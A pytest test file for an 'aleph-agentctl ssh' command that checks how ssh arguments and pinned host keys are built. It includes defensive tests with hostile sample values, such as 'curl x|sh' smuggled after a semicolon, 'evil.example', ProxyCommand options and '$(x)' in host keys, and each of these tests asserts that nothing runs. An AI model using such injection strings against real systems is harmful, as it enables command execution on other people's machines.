"""`aleph-agentctl ssh`: which program is started, with which words."""

import os

import pytest

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMtT6fOWe4wqZpVvMJ0sKxkC9bBKfyoGJkTtC4e6wqXX"


@pytest.fixture
def started(monkeypatch):
    """What takes our place."""
    calls = []
    monkeypatch.setattr(os, "execv", lambda program, words: calls.append((program, words)))
    monkeypatch.setattr("shutil.which", lambda _: "/usr/bin/ssh")
    return calls


def test_ssh_gets_the_address_that_the_daemon_knows_and_what_follows_the_name(daemon, cli, make_vm, started):
    """Options and a command pass through."""
    daemon.says("vms.get", make_vm())
    assert cli.run("ssh", "web", "-A", "uname", "-a") == 0
    [(program, words)] = started
    assert program == "/usr/bin/ssh"
    assert words[0] == "ssh"
    assert words[-6:] == ["-p", "24000", "root@127.0.0.2", "-A", "uname", "-a"]


@pytest.mark.parametrize(
    "words", [["df", "-h"], ["-v"], ["ls", "--help"], ["jq", "--json"], ["--", "df", "-h"]]
)
def test_what_follows_the_name_is_never_an_option_of_ours(daemon, cli, make_vm, started, words):
    """Not even one that we have too."""
    daemon.says("vms.get", make_vm())
    assert cli.run("ssh", "web", *words) == 0
    assert started[0][1][-len(words) - 1 :] == ["root@127.0.0.2", *words]


def test_an_option_of_ssh_before_the_name_is_not_taken_for_the_name(daemon, cli, make_vm, started):
    """It is named as the one that is wrong."""
    daemon.says("vms.get", make_vm())
    assert cli.run("ssh", "-A", "web") == 2
    assert "-A" in cli.err
    assert started == []


def test_a_host_key_belongs_to_the_vm_and_not_to_its_address(daemon, cli, make_vm, started):
    """The next VM on the same port has another one, and no warning of an attack."""
    daemon.says("vms.get", make_vm())
    cli.run("ssh", "web")
    words = started[0][1]
    assert "HostKeyAlias=aleph-7765620000000000" in words
    assert "StrictHostKeyChecking=accept-new" in words


def test_a_pinned_host_key_is_the_only_one_that_counts(daemon, cli, make_vm, started):
    """As the daemon saw it at first contact."""
    daemon.says("vms.get", make_vm(host_key=KEY))
    cli.run("ssh", "web")
    words = started[0][1]
    assert f"KnownHostsCommand=/bin/echo aleph-7765620000000000 {KEY}" in words
    assert "StrictHostKeyChecking=yes" in words
    assert "UserKnownHostsFile=/dev/null" in words


@pytest.mark.parametrize(
    "hostile",
    [
        "",
        "ssh -p 22 root@1.2.3.4;curl x|sh",
        "ssh -p 22 root@evil.example",
        "ssh -oProxyCommand=x root@1.2.3.4",
        "ssh -p 22 -oProxyCommand=x@1.2.3.4",
        "ssh -p 70000 root@1.2.3.4",
        "ssh -p 22 root@1.2.3.4\n",
        "ssh -p 22 root@::::",
    ],
)
def test_what_is_no_address_starts_nothing(daemon, cli, make_vm, started, hostile):
    """rules.md 18: whatever a CRN says is hostile, also when the daemon has let it through."""
    daemon.says("vms.get", make_vm(ssh_command=hostile))
    assert cli.run("ssh", "--json", "web") == 1
    assert cli.json["error"]["code"] == "no_address"
    assert started == []


@pytest.mark.parametrize(
    "hostile", ["ssh-ed25519 AAAA -o x", "ssh-ed25519 AAAA; x", "$(x) AAAA", "ssh-rsa A'A"]
)
def test_a_host_key_of_another_form_is_no_host_key(daemon, cli, make_vm, started, hostile):
    """It would be words of a command."""
    daemon.says("vms.get", make_vm(host_key=hostile))
    cli.run("ssh", "web")
    assert not [word for word in started[0][1] if "KnownHostsCommand" in word]


@pytest.mark.parametrize(
    "words", [["--json", "ssh", "web"], ["ssh", "--json", "web"], ["ssh", "web", "--json"]]
)
def test_with_json_the_command_is_told_and_not_run(daemon, cli, make_vm, started, words):
    """For a program that starts it by itself."""
    daemon.says("vms.get", make_vm())
    assert cli.run(*words) == 0
    assert cli.json["command"][-1] == "root@127.0.0.2"
    assert started == []


def test_without_ssh_it_says_so(daemon, cli, make_vm, monkeypatch):
    """And what to install."""
    monkeypatch.setattr("shutil.which", lambda _: None)
    daemon.says("vms.get", make_vm())
    assert cli.run("ssh", "web") == 1
    assert "there is no ssh on this machine" in cli.err
